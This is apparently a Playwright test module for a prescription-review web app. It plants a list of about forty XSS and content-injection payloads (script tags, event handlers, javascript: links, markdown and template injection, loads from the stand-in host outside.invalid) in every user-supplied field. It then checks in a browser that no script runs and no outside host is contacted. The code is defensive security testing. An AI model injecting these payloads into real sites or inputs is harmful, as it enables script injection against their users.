"""What would be a script if a page took it for one, shown in a real browser wherever people, files
and models have the word: no script may run, and nothing may be asked of another host.
"""

from collections.abc import Sequence
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Final

from playwright.sync_api import Browser, Dialog, Page, expect

from bench.trials import Trial, worked
from bench.trials.browsing import chromium, signed_in
from db import documents, imports, intake, jobs, people, reviews, sessions, settings
from db.connection import Database, opened
from rxcore.errors import RxError
from rxcore.intake import Incoming, clean_name
from rxcore.limits import Limits
from rxcore.people import Actor
from rxcore.readings import Answer, Disease, Medicine, ModelReading, Offer
from rxcore.store import ImageStore
from tests.building import CARD, picture, submission
from tests.server import (
    ADMINISTRATOR,
    PASSWORD,
    PATIENCE_MS,
    REVIEWER,
    Server,
    running,
    settled,
    with_accounts,
)

OUTSIDE: Final = "outside.invalid"
_RUN: Final = "window.ran=1"
_ASK: Final = f"fetch('http://{OUTSIDE}/')"

PAYLOADS: Final = (
    f"<script>{_RUN}</script>", f"<script src=//{OUTSIDE}/a.js></script>",
    f"<img src=x onerror={_RUN}>", f"<img src=http://{OUTSIDE}/a.png>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<body onload={_RUN}>", f"<iframe srcdoc='{_RUN}'>",
    f"<iframe src=javascript:{_RUN}>", f"<iframe src=//{OUTSIDE}/>",
    f"<a href=javascript:{_RUN}>a</a>", f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=//{OUTSIDE}/a.mp3 autoplay>", f"<link rel=stylesheet href=//{OUTSIDE}/a.css>",
    f"<style>@import '//{OUTSIDE}/a.css';</style>",
    f"<meta http-equiv=refresh content='0;url=http://{OUTSIDE}/'>", f"<base href=//{OUTSIDE}/>",
    f"<object data=//{OUTSIDE}/a.swf></object>", f"<embed src=//{OUTSIDE}/a.swf>",
    f"<form action=//{OUTSIDE}/><button autofocus>go</form>",
    f"<math href=javascript:{_RUN}>x</math>", f"\"><script>{_RUN}</script>",
    f"'><img src=x onerror={_RUN}>", f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>", f"\" onmouseover={_RUN} autofocus onfocus={_RUN} x=\"",
    f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    f"<x onclick={_RUN}>click</x>", f"![a](http://{OUTSIDE}/a.png)", f"[a](javascript:{_RUN})",
    f"[a](http://{OUTSIDE}/)", f"<http://{OUTSIDE}/>", f"http://{OUTSIDE}/a.png",
    "$\\href{javascript:" + _RUN + "}{x}$", f"$\\includegraphics{{http://{OUTSIDE}/a.png}}$",
    "{{constructor.constructor('" + _RUN + "')()}}", "${" + _ASK + "}",
)  # fmt: skip

PAGES: Final = (
    "queue", "held", "guide", "adjudicate", "overview", "history", "accuracy", "agreement",
    "vocabulary", "export", "people", "settings", "account",
)  # fmt: skip


def _fill(home: Path, payloads: Sequence[str]) -> str:
    """A data folder in which each payload stands for every word that comes from outside; the
    session of its administrator."""
    with_accounts(home)
    with opened(home / "rx.db") as db:
        root, reviewer = worked.person(db, ADMINISTRATOR), worked.person(db, REVIEWER)
        guide = "\n\n".join(f"{payload}\n{payload}" for payload in payloads)
        settings.put(db, root, "guide", guide)
        for number, payload in enumerate(payloads):
            _page_of(db, home, root, payload, number)
            _said_by_people(db, root, reviewer, payload, number + 1)
        return sessions.sign_in(db, ADMINISTRATOR, PASSWORD, "bench")


def _page_of(db: Database, home: Path, root: Actor, payload: str, number: int) -> None:
    """A document whose file, upload and reading are the payload's."""
    files = [Incoming(clean_name(f"{payload}.png"), picture(f"page {number}"))]
    store = ImageStore(home / "images")
    *_, _ = intake.add_all(db, store, root, files, Limits(), upload=payload[:60])
    [job] = jobs.claim(db, 1)
    medicine = Medicine(
        written=payload, name=payload, strength=payload, form=payload, dose=payload, route=payload,
        frequency=payload, duration=payload, instructions=payload, confidence=0.5,
    )  # fmt: skip
    reading = ModelReading(
        medicines=(medicine,),
        diseases=(Disease(written=payload, name=payload, confidence=0.5),),
        answers=(Answer("medicines", "v1", payload, payload),),
        notes=(payload,),
        offers=(Offer(Medicine(name=payload, lineage=f"offer {number}"), 0.5, payload),),
    )
    jobs.complete(db, job, CARD, reading)


def _said_by_people(db: Database, root: Actor, reviewer: Actor, payload: str, number: int) -> None:
    """What people say with it: reasons, corrections, names of sets and of people. What is refused
    cannot be shown."""
    document = documents.get(db, number)
    match number % 4:
        case 0:
            reviews.hold(db, reviewer, number, document.version, payload, ask=True)
        case 1:
            made = submission(document, Medicine(name=payload), Disease(name=payload))
            reviews.submit(db, reviewer, made)
        case 2:
            reviews.reject(db, reviewer, number, document.version, payload)
    table = (
        f'file,kind,name\n{document.sha256},medicine,"{payload.replace(chr(34), chr(34) * 2)}"\n'
    )
    for act in (
        lambda: imports.import_readings(db, root, payload[:60], table.encode()),
        lambda: people.add(db, root, payload[:60], PASSWORD, "reviewer"),
    ):
        try:
            act()
        except RxError:
            continue


class Watch:
    """What a page did that it must not: scripts that ran, and other hosts that were asked."""

    def __init__(self, page: Page, server: Server) -> None:
        self.page, self.server, self.seen = page, server, list[str]()
        page.on("request", lambda request: self._asked(request.url))
        page.on("dialog", self._dialog)
        page.on("popup", lambda popup: self.seen.append(f"a window: {popup.url}"))

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append("a dialog")
        dialog.dismiss()

    def _asked(self, url: str) -> None:
        own = (self.server.url, self.server.url.replace("http", "ws", 1), "blob:", "data:")
        if not url.startswith(own):
            self.seen.append(f"asked {url}")

    def visit(self, address: str, *, shows: str = "") -> list[str]:
        """Opens a page, waits until it stands, and says what it did that it must not."""
        self.seen.clear()
        self.page.goto(f"{self.server.url}/{address}", wait_until="commit")
        settled(self.page)
        if shows:
            expect(self.page.get_by_test_id("document")).to_contain_text(shows, timeout=PATIENCE_MS)
        ran = [frame.evaluate("window.ran") for frame in self.page.frames]
        found = self.seen + ["a script ran"] * any(ran)
        return [f"{address}: {what}" for what in found]


def in_browser(browser: Browser, payloads: Sequence[str]) -> Trial:
    """Each payload in each place, on each page and on the desk of each document."""
    failures: list[str] = []
    with TemporaryDirectory() as folder:
        token = _fill(Path(folder), payloads)
        with running(Path(folder)) as server, signed_in(browser, server, token) as page:
            watch = Watch(page, server)
            for address in PAGES:
                failures += watch.visit(address)
            for number in range(1, len(payloads) + 1):
                failures += watch.visit(f"review?document={number}", shows=f"rx-{number:04d}")
    shown = f"on {len(PAGES)} pages and {len(payloads)} desks: no script ran, nobody else was asked"
    return Trial("payloads in a browser", len(payloads), tuple(failures), shown)


def payloads(most: int) -> Trial:
    """So many payloads in a browser of the trial's own."""
    with chromium() as browser:
        return in_browser(browser, PAYLOADS[:: max(1, len(PAYLOADS) // most)])
